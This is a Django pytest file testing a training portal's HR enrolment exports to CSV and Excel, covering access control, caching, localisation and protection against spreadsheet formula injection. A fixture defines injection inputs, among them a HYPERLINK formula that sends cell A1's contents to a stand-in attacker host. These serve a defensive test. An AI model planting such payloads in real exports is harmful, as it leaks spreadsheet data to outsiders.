"""HR exports the company's enrolments as CSV and XLSX: only their own, safe to open in Excel."""

import csv
import io
import tempfile
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from companies.models import Membership
from companies.portal.exports import export_rows, neutralise
from enrolment.models import Enrolment
from tests.factories import (
    CompanyFactory,
    CourseFactory,
    EnrolmentFactory,
    LocationFactory,
    MeetingFactory,
    MembershipFactory,
    OfferingFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "xlsx"]
HOSTILE = {
    "first_name": '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "last_name": "+31612345678",
    "course": "-1",
    "location": "@SUM(A1:A9)",
}


@pytest.fixture
def company():
    return CompanyFactory(name="Kampstaal", slug="kampstaal")


@pytest.fixture
def hr(company):
    return MembershipFactory(company=company, role=Membership.Role.HR).user


@pytest.fixture
def make_enrolment(company):
    """An enrolment paid by ``company`` (by default) in a two-day offering in March 2030."""

    def make(*, learner=None, course=None, location=None, paid_by=company, **fields):
        offering = OfferingFactory(
            course=course or CourseFactory(), location=location or LocationFactory()
        )
        first = timezone.make_aware(datetime(2030, 3, 4, 8, 30))
        for day in (0, 7):
            starts_at = first + timedelta(days=day)
            MeetingFactory(
                offering=offering, starts_at=starts_at, ends_at=starts_at + timedelta(hours=8)
            )
        learner = learner or MembershipFactory(company=company).user
        return EnrolmentFactory(
            offering=offering,
            learner=learner,
            company=paid_by,
            price_excl_vat=Decimal("1195.00"),
            vat_rate=Decimal("21.00"),
            **fields,
        )

    return make


def download(client, kind: str, slug: str = "kampstaal") -> list[list]:
    """Fetch an export and read it back as rows of cell values, header first."""
    response = client.get(reverse(f"portal:export_{kind}", args=[slug]))
    assert response.status_code == 200
    if kind == "csv":
        text = response.content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+31612345678", "'+31612345678"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Jan de Vries", "Jan de Vries"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (3, 3),
        (Decimal("-1.00"), Decimal("-1.00")),
    ],
)
def test_neutralise_prefixes_formula_triggers_with_an_apostrophe(value, expected):
    assert neutralise(value) == expected


def test_csv_has_bom_semicolons_and_only_the_companys_enrolments(
    client, company, hr, make_enrolment
):
    learner = UserFactory(first_name="Fenna", last_name="Bakker", email="fenna@kampstaal.nl")
    MembershipFactory(company=company, user=learner)
    course = CourseFactory(title="TIG-lassen RVS", study_hours=Decimal("16"), funding_eligible=True)
    make_enrolment(learner=learner, course=course, location=LocationFactory(name="Firda"))
    make_enrolment(
        learner=UserFactory(last_name="Concurrent"), paid_by=CompanyFactory(name="Suplacon")
    )
    client.force_login(hr)

    response = client.get(reverse("portal:export_csv", args=["kampstaal"]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="inschrijvingen-kampstaal-{today}.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Achternaam;Voornaam;E-mailadres;Cursus;Locatie;Startdatum")
    assert lines[1] == (
        "Bakker;Fenna;fenna@kampstaal.nl;TIG-lassen RVS;Firda;2030-03-04;2030-03-11;bevestigd;;"
        f"1195,00;21,00;250,95;1445,95;16,0;ja;{today};;"
    )
    assert len(lines) == 2
    assert "Concurrent" not in response.content.decode("utf-8-sig")


def test_xlsx_has_typed_cells_a_bold_frozen_header_and_only_the_companys_enrolments(
    client, company, hr, make_enrolment
):
    learner = UserFactory(first_name="Fenna", last_name="Bakker", email="fenna@kampstaal.nl")
    MembershipFactory(company=company, user=learner)
    make_enrolment(
        learner=learner,
        course=CourseFactory(title="TIG-lassen RVS"),
        status=Enrolment.Status.WAITLISTED,
        waitlist_position=2,
    )
    make_enrolment(
        learner=UserFactory(last_name="Concurrent"), paid_by=CompanyFactory(name="Suplacon")
    )
    client.force_login(hr)

    response = client.get(reverse("portal:export_xlsx", args=["kampstaal"]))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].endswith(
        f'inschrijvingen-kampstaal-{timezone.localdate().isoformat()}.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["D"].width >= 30
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert header[:3] == ["Achternaam", "Voornaam", "E-mailadres"]
    assert header[-4:] == ["Subsidiabel", "Geboekt op", "Inkoopordernummer", "Kostenplaats"]
    today = timezone.localdate()
    assert rows == [
        [
            "Bakker",
            "Fenna",
            "fenna@kampstaal.nl",
            "TIG-lassen RVS",
            rows[0][4],
            datetime(2030, 3, 4),
            datetime(2030, 3, 11),
            "wachtlijst",
            2,
            1195,
            21,
            250.95,
            1445.95,
            16,
            "nee",
            datetime(today.year, today.month, today.day),
            None,
            None,
        ]
    ]
    assert sheet["F2"].number_format == "yyyy-mm-dd"


@pytest.mark.parametrize("kind", FORMATS)
def test_formula_like_names_and_titles_are_neutralised(kind, client, hr, make_enrolment):
    learner = UserFactory(first_name=HOSTILE["first_name"], last_name=HOSTILE["last_name"])
    make_enrolment(
        learner=learner,
        course=CourseFactory(title=HOSTILE["course"]),
        location=LocationFactory(name=HOSTILE["location"]),
    )
    client.force_login(hr)

    _header, row = download(client, kind)

    assert row[:2] == [f"'{HOSTILE['last_name']}", f"'{HOSTILE['first_name']}"]
    assert row[3:5] == [f"'{HOSTILE['course']}", f"'{HOSTILE['location']}"]


def test_xlsx_stores_a_formula_like_name_as_text_not_as_a_formula(client, hr, make_enrolment):
    make_enrolment(learner=UserFactory(first_name=HOSTILE["first_name"]))
    client.force_login(hr)

    response = client.get(reverse("portal:export_xlsx", args=["kampstaal"]))

    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["B2"]
    assert cell.data_type == "s"
    assert "<f>" not in _sheet_xml(response.content)


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("kind", FORMATS)
def test_export_query_count_does_not_grow_with_the_enrolments(kind, client, hr, make_enrolment):
    client.force_login(hr)
    url = reverse(f"portal:export_{kind}", args=["kampstaal"])
    make_enrolment()
    client.get(url)  # warm up: session, content types
    with CaptureQueriesContext(connection) as one:
        client.get(url)
    for _ in range(5):
        make_enrolment()
    with CaptureQueriesContext(connection) as six:
        response = client.get(url)

    assert len(download(client, kind)) == 7
    assert response.status_code == 200
    assert len(six) == len(one)


@pytest.mark.parametrize("kind", FORMATS)
def test_export_is_404_for_hr_of_another_company_and_for_employees(
    kind, client, company, make_enrolment
):
    make_enrolment()
    url = reverse(f"portal:export_{kind}", args=[company.slug])
    other_hr = MembershipFactory(role=Membership.Role.HR).user
    employee = MembershipFactory(company=company).user

    for user in (other_hr, employee):
        client.force_login(user)
        assert client.get(url).status_code == 404


@pytest.mark.parametrize("kind", FORMATS)
def test_export_sends_anonymous_visitors_to_the_login_page(kind, client, company):
    url = reverse(f"portal:export_{kind}", args=[company.slug])

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_export_refuses_post(client, hr):
    client.force_login(hr)

    assert client.post(reverse("portal:export_csv", args=["kampstaal"])).status_code == 405


def test_english_export_has_english_headers(client, hr, make_enrolment):
    make_enrolment()
    client.force_login(hr)
    with translation.override("en"):
        url = reverse("portal:export_csv", args=["kampstaal"])

    response = client.get(url)

    assert url.startswith("/en/")
    header = response.content.decode("utf-8-sig").splitlines()[0].split(",")
    assert header[:3] == ["Last name", "First name", "Email address"]
    assert "confirmed" in response.content.decode("utf-8-sig")


def test_dashboard_links_to_both_exports(client, hr):
    client.force_login(hr)

    page = client.get(reverse("portal:dashboard", args=["kampstaal"])).content.decode()

    assert reverse("portal:export_csv", args=["kampstaal"]) in page
    assert reverse("portal:export_xlsx", args=["kampstaal"]) in page


def test_export_dates_are_local_calendar_days(make_enrolment, company):
    """An offering starting just after midnight Amsterdam time is on that day, not the UTC day
    before."""
    enrolment = make_enrolment()
    enrolment.offering.meetings.update(
        starts_at=timezone.make_aware(datetime(2030, 3, 4, 0, 30)),
        ends_at=timezone.make_aware(datetime(2030, 3, 4, 8, 30)),
    )

    (row,) = export_rows(company=company)

    assert row[5:7] == [date(2030, 3, 4), date(2030, 3, 4)]


def test_xlsx_says_on_a_sheet_of_its_own_what_it_holds_who_made_it_and_how_to_keep_it(
    client, company, make_enrolment
):
    hr = UserFactory(first_name="Hanna", last_name="Hofstra")
    MembershipFactory(company=company, user=hr, role=Membership.Role.HR)
    make_enrolment()
    client.force_login(hr)

    response = client.get(reverse("portal:export_xlsx", args=["kampstaal"]))

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Inschrijvingen", "Over dit bestand"]
    assert workbook.active.title == "Inschrijvingen"
    lines = [row[0] for row in workbook["Over dit bestand"].iter_rows(values_only=True)]
    assert lines[0] == "Inschrijvingen betaald door Kampstaal"
    assert "door Hanna Hofstra" in lines[1]
    assert str(timezone.localdate().year) in lines[1]
    assert any("persoonsgegevens" in line and "niet langer dan nodig" in line for line in lines)


def test_english_xlsx_explains_itself_in_english(client, hr, make_enrolment):
    make_enrolment()
    client.force_login(hr)
    with translation.override("en"):
        url = reverse("portal:export_xlsx", args=["kampstaal"])

    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url).content))

    assert workbook.sheetnames == ["Enrolments", "About this file"]
    first = next(workbook["About this file"].iter_rows(values_only=True))[0]
    assert first == "Enrolments paid for by Kampstaal"


def test_csv_keeps_only_the_columns_and_the_dashboard_says_what_the_export_holds(
    client, hr, make_enrolment
):
    make_enrolment()
    client.force_login(hr)

    rows = download(client, "csv")
    page = client.get(reverse("portal:dashboard", args=["kampstaal"])).content.decode()

    assert rows[0][:3] == ["Achternaam", "Voornaam", "E-mailadres"]
    assert len(rows) == 2
    assert "persoonsgegevens" in page
    assert "bewaart geen kopie" in page


@pytest.mark.parametrize("kind", FORMATS)
def test_export_may_not_be_stored_by_any_cache_and_is_built_without_touching_disk(
    kind, client, hr, make_enrolment, settings, tmp_path, monkeypatch
):
    make_enrolment()
    settings.MEDIA_ROOT = tmp_path / "media"
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    # Anything that spills to a temporary file (openpyxl's write-only mode does) lands here.
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    client.force_login(hr)

    response = client.get(reverse(f"portal:export_{kind}", args=["kampstaal"]))

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert not list(tmp_path.rglob("*.*"))
    assert not any(path.is_file() for path in tmp_path.rglob("*"))
